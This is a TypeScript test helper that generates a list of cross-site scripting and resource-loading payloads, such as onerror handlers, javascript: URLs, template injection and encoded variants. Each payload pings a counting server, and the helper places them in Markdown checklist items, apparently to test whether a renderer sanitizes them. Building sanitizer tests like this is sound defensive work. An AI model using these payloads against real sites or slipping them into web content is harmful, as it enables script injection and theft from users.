/** What a document, a target or an answer may hold to have a script run, a request sent or a page left. `at`: a server that counts. */
const vectors = (at: string): readonly string[] => {
  const act = `window.ran=1;fetch('${at}/ran')`;
  return [
    `<script>${act}</script>`,
    `<script src="${at}/ran"></script>`,
    `<img src=x onerror="${act}">`,
    `<img src="${at}/ran">`,
    `<svg onload="${act}"></svg>`,
    `<svg><script>${act}</script></svg>`,
    `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
    `<body onload="${act}">`,
    `<iframe src="javascript:${act}"></iframe>`,
    `<iframe srcdoc="<script>${act}</script>"></iframe>`,
    `<object data="${at}/ran"></object>`,
    `<embed src="${at}/ran">`,
    `<link rel=stylesheet href="${at}/ran">`,
    `<style>@import '${at}/ran';</style>`,
    `<meta http-equiv=refresh content="0;url=${at}/ran">`,
    `<base href="${at}/">`,
    `<form action="${at}/ran"><button autofocus onfocus="this.form.submit()">x</button></form>`,
    `<details open ontoggle="${act}">x</details>`,
    `<input autofocus onfocus="${act}">`,
    `<video src="${at}/ran" autoplay onerror="${act}"></video>`,
    `<marquee onstart="${act}">x</marquee>`,
    `<a href="javascript:${act}" autofocus>x</a>`,
    `"><img src=x onerror="${act}">`,
    `'-${act}-'`,
    `</title><script>${act}</script>`,
    `\${${act}}`,
    `{{constructor.constructor("${act}")()}}`,
    `javascript:${act}`,
    `data:text/html,<script>${act}</script>`,
    `<math><mtext></p><img src=x onerror="${act}"></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
    `<img src=x:x onerror&#61;"${act}">`,
    `&#60;img src=x onerror="${act}"&#62;`,
    `\u202e<img src=x onerror="${act}">\u202c`,
    `<template><img src=x onerror="${act}"></template>`,
    `<img srcset="${at}/ran 1x">`,
    `<picture><source srcset="${at}/ran"><img></picture>`,
    `<audio src="${at}/ran" autoplay></audio>`,
    `<portal src="${at}/ran"></portal>`,
    `<div style="background:url(${at}/ran)">x</div>`,
  ];
};

type Place = (words: string, mark: string) => string;
const flat = (words: string): string => words.replaceAll('\n', ' ');

/** Where in a checklist such words can stand; each says its mark, so that it can be seen to have been shown. */
const places: readonly Place[] = [
  (words, mark) => `- [ ] ${mark} ${flat(words)}`,
  (words, mark) => `- [ ] ${mark} run \`${flat(words).replaceAll('`', "'")}\``,
  (words, mark) => `- [ ] ${mark} [open](${flat(words).replaceAll(/[\s()<>]/gu, (sign) => encodeURIComponent(sign))})`,
  (words, mark) =>
    `- [ ] ${mark} ![picture](${flat(words).replaceAll(/[\s()<>]/gu, (sign) => encodeURIComponent(sign))})`,
  (words, mark) => `- [ ] ${mark} **${flat(words)}**: ____`,
  (words, mark) => `- [ ] ${mark} with a note\n  - ${flat(words)}`,
  (words, mark) => `### ${mark} ${flat(words)}\n\n- [ ] Look at ${mark}`,
  (words, mark) => `- [ ] ${mark} before a block\n\n${flat(words)}\n`,
  (words, mark) => `- [ ] ${mark} ☐ ${flat(words)} ☐ No`,
  (words, mark) => `- [ ] ${mark} a command\n\n  \`\`\`bash\n  echo ${flat(words).replaceAll('`', "'")}\n  \`\`\`\n`,
  (words, mark) => `- [ ] ${mark} <https://example.invalid/${encodeURIComponent(flat(words))}>`,
  (words, mark) =>
    `- [ ] ${mark} [a][${mark}]\n\n[${mark}]: <${flat(words).replaceAll(/[<>\s]/gu, encodeURIComponent)}> "${flat(words).replaceAll('"', "'")}"\n`,
  (words, mark) => `- [ ] ${mark} Target: ${flat(words)} < 5`,
];

export type Hostile = { readonly mark: string; readonly words: string; readonly markdown: string };

/** At least `count` of them, each with a mark of its own. */
export const hostileItems = (at: string, count: number): readonly Hostile[] => {
  const all = places.flatMap((place) => vectors(at).map((words) => ({ place, words })));
  return all.slice(0, Math.max(count, 0)).map(({ place, words }, index) => {
    const mark = `M${String(index).padStart(3, '0')}`;
    return { mark, words, markdown: place(words, mark) };
  });
};

export const hostileWords = vectors;
